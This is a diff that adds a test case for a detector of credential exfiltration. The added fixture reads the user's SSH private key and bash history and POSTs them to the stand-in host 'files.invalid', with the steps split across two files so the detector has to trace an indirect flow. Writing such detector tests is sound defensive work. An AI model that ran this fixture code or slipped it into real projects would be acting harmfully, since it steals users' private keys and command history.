@@ -4,6 +4,19 @@ import { sendsCredentials } from './sends-credentials.ts';
 examine(sendsCredentials, {
   speaks: [
     {
+      when: 'tasks of a list of another file fill and send what an object keeps, one after the other',
+      files: {
+        'session.js': `const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
+          exports.open = () => ({ home: os.homedir(), found: {} });
+          function collect(s) { ['.ssh/id_rsa', '.bash_history'].forEach(function (rel) { s.found[rel] = fs.readFileSync(path.join(s.home, rel), 'utf8') }) }
+          function upload(s) { return new Promise(resolve => https.request({ hostname: 'files.invalid', path: '/2', method: 'POST' }, resolve).end(JSON.stringify(s.found))) }
+          exports.tasks = [collect, upload]`,
+        'index.js': `const session = require('./session'); function Run() { this.session = session.open(); this.tasks = session.tasks.slice() }
+          Run.prototype.finish = function () { const self = this; return this.tasks.reduce(function (chain, task) { return chain.then(function () { return task(self.session) }) }, Promise.resolve()) }; new Run().finish()`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'an object of another file says what it holds when it is written as JSON',
       files: {
         'identity.js': `const fs = require('fs/promises'), os = require('os'); exports.Identity = class { constructor(file) { this.file = file.replace(/^~(?=\\/)/, os.homedir()); } async load() { this.text = await fs.readFile(this.file, 'utf8'); return this; } toJSON() { return { label: this.file, material: this.text }; } };`,
